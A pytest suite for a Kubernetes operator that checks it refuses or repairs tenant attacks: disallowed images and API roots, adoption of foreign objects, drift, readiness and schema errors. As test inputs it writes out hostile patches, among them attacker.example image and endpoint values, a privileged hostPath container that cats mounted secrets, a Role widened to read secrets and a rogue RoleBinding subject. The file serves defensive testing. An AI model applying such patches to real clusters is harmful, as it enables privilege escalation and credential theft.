"""A tenant attacking the real operator, as the issue found it: each attack refused or repaired.

- Fields that choose the code or where tokens go (image, API root) are refused unless the
  operator's own allow-lists name them; nothing is created or changed for a refused spec.
- Objects of a child's name that are somebody else's (a Helm-owned ConfigMap, a hand-made
  ServiceAccount) are never adopted or modified: NameConflict.
- Drift made with the real kubectl (scale, set image, a privileged container, a widened Role,
  extra RoleBinding subjects, edited config) is repaired within seconds by the child watches:
  `drift_cluster` turns the periodic sweep off, so only a watch event can start the repair.
- Ready stays False until the Deployment reports an available pod of its current template.
- A rotated Secret rolls the pod template; a child refused with 422 is a permanent InvalidSpec.
"""

from __future__ import annotations

import base64
import json
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes.client.exceptions import ApiException
from operator_testkit import (
    NAMESPACE,
    TOKEN,
    OperatorCluster,
    eventually,
    monitor,
    running_operator,
    token_secret,
)

from syft_operator import names
from tests.kubeapi import KubeApiServer
from tests.kubeapi.tools import Kubectl
from tests.support import free_port

#: A repair must start from the watch within this many seconds (generous: a loaded machine).
REPAIR_SECONDS = 15.0
ALLOWED_REGISTRY = "registry.example.org/syft/"
ALLOWED_ROOT = "https://google-proxy.example.org/"


@pytest.fixture
def drift_cluster(
    kube_api: KubeApiServer, kubeconfig: Path, kube_client: Any, tmp_path: Path
) -> Iterator[tuple[OperatorCluster, int]]:
    """The operator with no periodic sweep (only watches react), metrics on, and allow-lists."""
    port = free_port()
    # One allow-list from the environment (the chart's way), one from a flag.
    env = {"SYFT_OPERATOR_STATUS_INTERVAL": "0", "SYFT_OPERATOR_ALLOWED_IMAGES": ALLOWED_REGISTRY}
    flags = ("--metrics-port", str(port), "--allow-api-root", ALLOWED_ROOT)
    with running_operator(kube_api, kubeconfig, kube_client, tmp_path, *flags, env=env) as cluster:
        yield cluster, port


def children(cluster: OperatorCluster, name: str = "alice") -> dict[str, Any]:
    api = cluster.api
    rbac = "rbac.authorization.k8s.io/v1"
    found = {
        "config": api.get_object("v1", "configmaps", NAMESPACE, f"{name}-config"),
        "state": api.get_object("v1", "configmaps", NAMESPACE, f"{name}-state"),
        "sa": api.get_object("v1", "serviceaccounts", NAMESPACE, f"{name}-monitor"),
        "role": api.get_object(rbac, "roles", NAMESPACE, f"{name}-monitor"),
        "binding": api.get_object(rbac, "rolebindings", NAMESPACE, f"{name}-monitor"),
        "deployment": cluster.deployment(name),
        "cronjob": cluster.cronjob(name),
    }
    return {key: value for key, value in found.items() if value is not None}


def event_reasons(cluster: OperatorCluster, name: str = "alice") -> list[str]:
    return [event.reason for event in cluster.events_for(name)]


def created_and_ready(cluster: OperatorCluster, name: str = "alice", **spec: Any) -> None:
    cluster.clients.core.create_namespaced_secret(NAMESPACE, token_secret(f"{name}-token"))
    cluster.create_monitor(monitor(name, **spec))
    cluster.ready(name)


def scrape(port: int) -> str:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5) as response:
        return response.read().decode()  # type: ignore[no-any-return]


def drift_repairs(port: int, kind: str) -> float:
    prefix = f'syft_operator_drift_repairs_total{{kind="{kind}"}} '
    for line in scrape(port).splitlines():
        if line.startswith(prefix):
            return float(line[len(prefix) :])
    raise AssertionError(f"no {prefix.strip()} in the metrics")


def pod_spec(cluster: OperatorCluster) -> dict[str, Any]:
    deployment = cluster.deployment()
    assert deployment is not None
    return deployment["spec"]["template"]["spec"]  # type: ignore[no-any-return]


# --- 1. the tenant boundary ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("spec", "reason"),
    [
        ({"image": "attacker.example/exfiltrate:1"}, "ImageNotAllowed"),
        ({"googleApiRoot": "http://attacker.example/"}, "ApiRootNotAllowed"),
    ],
    ids=["image", "api-root"],
)
def test_fields_choosing_code_or_token_destination_are_refused_by_default(
    operator_cluster: OperatorCluster, spec: dict[str, Any], reason: str
) -> None:
    operator_cluster.clients.core.create_namespaced_secret(NAMESPACE, token_secret("alice-token"))
    operator_cluster.create_monitor(monitor("alice", **spec))
    condition = operator_cluster.wait_condition("alice", "Ready", "False", reason)
    assert "allow-list" in condition["message"]
    eventually(lambda: reason in event_reasons(operator_cluster), what=f"a {reason} Event")
    assert children(operator_cluster) == {}, "a refused SyftMonitor must create nothing"
    # Removing the field is enough: the default image and Google's own endpoints.
    operator_cluster.patch_spec("alice", {key: None for key in spec})
    operator_cluster.ready()
    assert {c["image"] for c in pod_spec(operator_cluster)["containers"]} == {"syft-monitor:test"}


def test_a_refused_change_leaves_the_running_workload_alone(
    operator_cluster: OperatorCluster,
) -> None:
    created_and_ready(operator_cluster)
    before = children(operator_cluster)
    operator_cluster.patch_spec("alice", {"image": "attacker.example/x:1", "emailFormat": "text"})
    operator_cluster.wait_condition("alice", "Ready", "False", "ImageNotAllowed")
    time.sleep(1.5)  # the sweep (every second here) must not write anything either
    after = children(operator_cluster)
    for key, obj in before.items():
        assert after[key]["metadata"]["resourceVersion"] == obj["metadata"]["resourceVersion"], key


def test_allow_lists_admit_only_what_the_admin_named(
    drift_cluster: tuple[OperatorCluster, int],
) -> None:
    cluster, _port = drift_cluster
    allowed = f"{ALLOWED_REGISTRY}monitor:2"
    created_and_ready(cluster, image=allowed, googleApiRoot=ALLOWED_ROOT)
    assert {c["image"] for c in pod_spec(cluster)["containers"]} == {allowed}
    # A look-alike repository is not under the allowed prefix.
    cluster.patch_spec("alice", {"image": "registry.example.org/syft-evil/monitor:2"})
    cluster.wait_condition("alice", "Ready", "False", "ImageNotAllowed")
    cluster.patch_spec("alice", {"image": allowed, "googleApiRoot": ALLOWED_ROOT + "x/"})
    cluster.wait_condition("alice", "Ready", "False", "ApiRootNotAllowed")


# --- 2. no adoption of strangers -----------------------------------------------------------------


def test_a_helm_owned_configmap_is_not_adopted(operator_cluster: OperatorCluster) -> None:
    helm_labels = {"app.kubernetes.io/managed-by": "Helm"}
    helm_annotations = {
        "meta.helm.sh/release-name": "clinic",
        "meta.helm.sh/release-namespace": NAMESPACE,
    }
    operator_cluster.clients.core.create_namespaced_config_map(
        NAMESPACE,
        {
            "metadata": {
                "name": "alice-config",
                "labels": helm_labels,
                "annotations": helm_annotations,
            },
            "data": {"settings.ini": "owned by the clinic chart"},
        },
    )
    before = operator_cluster.stored("v1", "configmaps", "alice-config")
    assert before is not None
    operator_cluster.clients.core.create_namespaced_secret(NAMESPACE, token_secret("alice-token"))
    operator_cluster.create_monitor(monitor("alice"))
    condition = operator_cluster.wait_condition("alice", "Ready", "False", "NameConflict")
    assert "ConfigMap alice-config" in condition["message"]
    assert "managed-by: Helm" in condition["message"]
    time.sleep(1.5)  # retries and the sweep leave it alone too
    after = operator_cluster.stored("v1", "configmaps", "alice-config")
    assert after is not None
    assert after["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]
    assert after["data"] == {"settings.ini": "owned by the clinic chart"}
    assert not after["metadata"].get("ownerReferences")
    assert operator_cluster.deployment() is None


def test_a_preexisting_service_account_is_not_taken_over(
    operator_cluster: OperatorCluster,
) -> None:
    core = operator_cluster.clients.core
    core.create_namespaced_service_account(
        NAMESPACE, {"metadata": {"name": "alice-monitor"}, "automountServiceAccountToken": True}
    )
    operator_cluster.clients.rbac.create_namespaced_role_binding(
        NAMESPACE,
        {
            "metadata": {"name": "ci-deployer"},
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole",
                "name": "edit",
            },
            "subjects": [
                {"kind": "ServiceAccount", "name": "alice-monitor", "namespace": NAMESPACE}
            ],
        },
    )
    before = operator_cluster.stored("v1", "serviceaccounts", "alice-monitor")
    assert before is not None
    core.create_namespaced_secret(NAMESPACE, token_secret("alice-token"))
    operator_cluster.create_monitor(monitor("alice"))
    condition = operator_cluster.wait_condition("alice", "Ready", "False", "NameConflict")
    assert "ServiceAccount alice-monitor" in condition["message"]
    time.sleep(1.5)
    after = operator_cluster.stored("v1", "serviceaccounts", "alice-monitor")
    assert after is not None
    assert after["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]
    assert not after["metadata"].get("ownerReferences")
    assert after["automountServiceAccountToken"] is True
    # No pod may run under somebody else's account (and its bindings).
    assert operator_cluster.deployment() is None


# --- 3. drift repaired within seconds, from the watches ------------------------------------------


def repaired(cluster: OperatorCluster, probe: Any, what: str) -> float:
    started = time.monotonic()
    eventually(probe, timeout=REPAIR_SECONDS, what=what)
    return time.monotonic() - started


def test_workload_drift_is_repaired_from_the_watch(
    drift_cluster: tuple[OperatorCluster, int], kubectl: Kubectl
) -> None:
    cluster, port = drift_cluster
    created_and_ready(cluster, services=["notify", "approve"])
    deployment = f"deploy/{names.workload_name('alice')}"

    kubectl("-n", NAMESPACE, "scale", deployment, "--replicas=3")
    assert cluster.deployment()["spec"]["replicas"] == 3  # type: ignore[index]
    repaired(cluster, lambda: cluster.deployment()["spec"]["replicas"] == 1, "replicas back to 1")  # type: ignore[index]

    kubectl("-n", NAMESPACE, "set", "image", deployment, "notify=attacker.example/x:1")
    repaired(
        cluster,
        lambda: pod_spec(cluster)["containers"][0]["image"] == "syft-monitor:test",
        "the image restored",
    )

    privileged = {
        "spec": {
            "template": {
                "spec": {
                    "hostNetwork": True,
                    "containers": [
                        {
                            "name": "approve",
                            "securityContext": {
                                "privileged": True,
                                "capabilities": {"add": ["SYS_ADMIN"]},
                            },
                            "command": ["sh", "-c", "cat /var/run/secrets/syft-monitor/*/*"],
                        }
                    ],
                    "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
                }
            }
        }
    }
    kubectl("-n", NAMESPACE, "patch", deployment, "--type=strategic", "-p", json.dumps(privileged))
    assert pod_spec(cluster)["containers"][1]["securityContext"]["privileged"] is True

    def hardened() -> bool:
        pod = pod_spec(cluster)
        approve = pod["containers"][1]
        return (
            approve["securityContext"]["privileged"] is False
            and "add" not in approve["securityContext"]["capabilities"]
            and approve["command"] == ["syft-bg"]
            and not pod.get("hostNetwork")
            and all("hostPath" not in volume for volume in pod["volumes"])
        )

    repaired(cluster, hardened, "the privileged container hardened again")
    # Counted right after the write that repaired it.
    eventually(lambda: drift_repairs(port, "Deployment") >= 3, what="3 Deployment repairs counted")
    eventually(lambda: "DriftRepaired" in event_reasons(cluster), what="a DriftRepaired Event")
    assert "repaired drift of Deployment/alice-monitor" in cluster.log()


def test_rbac_and_config_drift_is_repaired_from_the_watch(
    drift_cluster: tuple[OperatorCluster, int], kubectl: Kubectl
) -> None:
    cluster, port = drift_cluster
    created_and_ready(cluster)
    original = children(cluster)
    widen = [
        {
            "op": "add",
            "path": "/rules/-",
            "value": {"apiGroups": [""], "resources": ["secrets"], "verbs": ["list", "get"]},
        }
    ]
    kubectl(
        "-n", NAMESPACE, "patch", "role", "alice-monitor", "--type=json", "-p", json.dumps(widen)
    )
    repaired(
        cluster,
        lambda: children(cluster)["role"]["rules"] == original["role"]["rules"],
        "the Role narrowed again",
    )
    intruder = [
        {
            "op": "add",
            "path": "/subjects/-",
            "value": {"kind": "User", "name": "mallory", "apiGroup": "rbac.authorization.k8s.io"},
        }
    ]
    kubectl(
        "-n",
        NAMESPACE,
        "patch",
        "rolebinding",
        "alice-monitor",
        "--type=json",
        "-p",
        json.dumps(intruder),
    )
    repaired(
        cluster,
        lambda: children(cluster)["binding"]["subjects"] == original["binding"]["subjects"],
        "the RoleBinding subjects restored",
    )
    edited = {"data": {"notify.yaml": "do_email: mallory@attacker.example\n"}}
    kubectl("-n", NAMESPACE, "patch", "configmap", "alice-config", "-p", json.dumps(edited))
    repaired(
        cluster,
        lambda: children(cluster)["config"]["data"] == original["config"]["data"],
        "the config restored",
    )
    for kind in ("Role", "RoleBinding", "ConfigMap"):
        eventually(lambda k=kind: drift_repairs(port, k) >= 1, what=f"a {kind} repair counted")


# --- 4. honest readiness -------------------------------------------------------------------------


def test_ready_waits_for_an_available_pod_of_the_current_template(
    drift_cluster: tuple[OperatorCluster, int],
) -> None:
    cluster, _port = drift_cluster
    cluster.clients.core.create_namespaced_secret(NAMESPACE, token_secret("alice-token"))
    created = cluster.create_monitor(monitor("alice"))
    pending = cluster.wait_condition("alice", "Ready", "False")
    # The controller has not even seen the Deployment yet (no status at all on this server).
    assert pending["reason"] in ("RolloutPending", "WorkloadPending")
    time.sleep(1.5)
    assert cluster.condition("alice", "Ready")["status"] == "False"  # type: ignore[index]
    # The Deployment controller and kubelet report a ready pod: the watch moves Ready.
    cluster.mark_available()
    ready = cluster.wait_condition("alice", "Ready", "True")
    generation = created["metadata"]["generation"]
    for condition in cluster.get_monitor()["status"]["conditions"]:
        assert set(condition) >= {"type", "status", "reason", "message", "lastTransitionTime"}
        assert condition["observedGeneration"] == generation
    assert ready["lastTransitionTime"] >= pending["lastTransitionTime"]
    # A new template (a spec change) is not ready until a pod of it is.
    cluster.patch_spec("alice", {"emailFormat": "text"})
    cluster.wait_condition("alice", "Ready", "False", "RolloutPending")
    cluster.mark_available()
    cluster.wait_condition("alice", "Ready", "True")


# --- 5. rotated Secrets roll the pod -------------------------------------------------------------


def test_a_rotated_token_rolls_the_pod_template(operator_cluster: OperatorCluster) -> None:
    created_and_ready(operator_cluster)

    def stamp() -> str:
        deployment = operator_cluster.deployment()
        assert deployment is not None
        annotations = deployment["spec"]["template"]["metadata"]["annotations"]
        return annotations[names.SECRETS_HASH_ANNOTATION]  # type: ignore[no-any-return]

    first = stamp()
    rotated = {**TOKEN, "refresh_token": "1//rotated-refresh-token"}
    raw = base64.b64encode(json.dumps(rotated).encode()).decode()
    operator_cluster.clients.core.patch_namespaced_secret(
        "alice-token", NAMESPACE, {"data": {"token.json": raw}}
    )
    second = eventually(lambda: stamp() != first and stamp(), what="a new secrets hash")
    # A label on the Secret is not a rotation.
    operator_cluster.clients.core.patch_namespaced_secret(
        "alice-token", NAMESPACE, {"metadata": {"labels": {"rotated": "yes"}}}
    )
    time.sleep(1.5)
    assert stamp() == second
    stored = json.dumps([operator_cluster.deployment(), operator_cluster.get_monitor()])
    for value in (TOKEN["refresh_token"], rotated["refresh_token"], TOKEN["client_secret"]):
        assert value not in stored
        assert value not in operator_cluster.log()


# --- 6 and 7. schema and child 422 --------------------------------------------------------------


def test_auto_approvals_need_the_syftbox_volume(schema_cluster: OperatorCluster) -> None:
    job = {"type": "python", "entrypoint": "main.py", "dependencies": ["syft-client==0.1.117"]}
    # A rule pinned as the approve rules require: only the missing volume is in question.
    rule = {
        "name": "count-rows",
        "fileContents": [{"relativePath": "main.py", "sha256": "a" * 64}],
        "canonicalRunSh": True,
        "job": job,
    }
    spec = {"services": ["notify", "approve"], "approve": {"autoApprovals": [rule]}}
    with pytest.raises(ApiException) as caught:
        schema_cluster.create_monitor(monitor("alice", **spec))
    assert caught.value.status == 422
    body = json.loads(caught.value.body)
    assert "spec.syftboxVolume: Required value" in body["message"]
    assert "SyftBox folder" in body["message"]
    schema_cluster.create_monitor(monitor("alice", syftboxVolume="alice-syftbox", **spec))
    # Peer acceptance alone needs no volume.
    peers = {"services": ["notify", "approve"], "approve": {"approvedDomains": ["uni.example.org"]}}
    schema_cluster.create_monitor(monitor("bob", **peers))


def test_the_syftbox_volume_is_mounted_for_approve_and_read_only_for_notify(
    operator_cluster: OperatorCluster,
) -> None:
    created_and_ready(operator_cluster, services=["notify", "approve"], syftboxVolume="alice-box")
    pod = pod_spec(operator_cluster)
    volume = next(v for v in pod["volumes"] if v["name"] == "syftbox")
    assert volume["persistentVolumeClaim"] == {"claimName": "alice-box"}
    mounts = {
        c["name"]: next(m for m in c["volumeMounts"] if m["name"] == "syftbox")
        for c in pod["containers"]
    }
    assert mounts["approve"]["readOnly"] is False
    assert mounts["notify"]["readOnly"] is True
    config = operator_cluster.stored("v1", "configmaps", "alice-config")
    assert config is not None
    assert f"syftbox_root: {names.SYFTBOX_DIR}" in config["data"]["approve.yaml"]


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        ({"resources": {"limits": {"memory": "5Miii"}}}, "spec.resources.limits.memory"),
        ({"resources": {"requests": {"cpu": ".."}}}, "spec.resources.requests.cpu"),
        ({"mode": "CronJob", "schedule": "99 99 99 99 99"}, "spec.schedule"),
        ({"mode": "CronJob", "schedule": "TZ=UTC 0 * * * *"}, "spec.schedule"),
        (
            {"resources": {"requests": {"cpu": "2"}, "limits": {"cpu": "1500m"}}},
            "spec.resources.requests",
        ),
        (
            {"approve": {"approvedDomains": [f"d{i}.example.org" for i in range(201)]}},
            "spec.approve.approvedDomains",
        ),
    ],
    ids=[
        "quantity-suffix",
        "quantity-dots",
        "cron-ranges",
        "cron-tz",
        "requests-over-limits",
        "list-size",
    ],
)
def test_tighter_schema(schema_cluster: OperatorCluster, spec: dict[str, Any], field: str) -> None:
    with pytest.raises(ApiException) as caught:
        schema_cluster.create_monitor(monitor("bad", **spec))
    assert caught.value.status == 422
    assert field in json.loads(caught.value.body)["message"]


def test_a_child_refused_with_422_is_invalid_spec_not_an_endless_retry(
    operator_cluster: OperatorCluster,
) -> None:
    api = operator_cluster.api
    fault = api.fail_next(
        422,
        verb="create",
        resource="deployments",
        count=1000,
        message='Deployment.apps "alice-monitor" is invalid: spec.template.spec.containers[0].'
        'resources.requests: Invalid value: "2": must be less than or equal to cpu limit',
    )
    operator_cluster.clients.core.create_namespaced_secret(NAMESPACE, token_secret("alice-token"))
    operator_cluster.create_monitor(monitor("alice"))
    condition = operator_cluster.wait_condition("alice", "Ready", "False", "InvalidSpec")
    assert "rejected Deployment alice-monitor" in condition["message"]
    tries = fault.hits
    time.sleep(3)  # three sweeps, and kopf's retries, would each try again
    assert fault.hits == tries, "a 422 must not be retried until the spec changes"
    api.clear_faults()
    operator_cluster.patch_spec("alice", {"emailFormat": "text"})  # a new generation: try again
    eventually(operator_cluster.deployment, what="the Deployment once the spec changed")


def test_email_replies_need_the_syftbox_volume(schema_cluster: OperatorCluster) -> None:
    spec = {"services": ["notify", "approve"], "approve": {"emailReplies": True}}
    with pytest.raises(ApiException) as caught:
        schema_cluster.create_monitor(monitor("alice", **spec))
    assert caught.value.status == 422
    assert "approve.emailReplies needs syftboxVolume" in json.loads(caught.value.body)["message"]
    schema_cluster.create_monitor(monitor("alice", syftboxVolume="alice-syftbox", **spec))
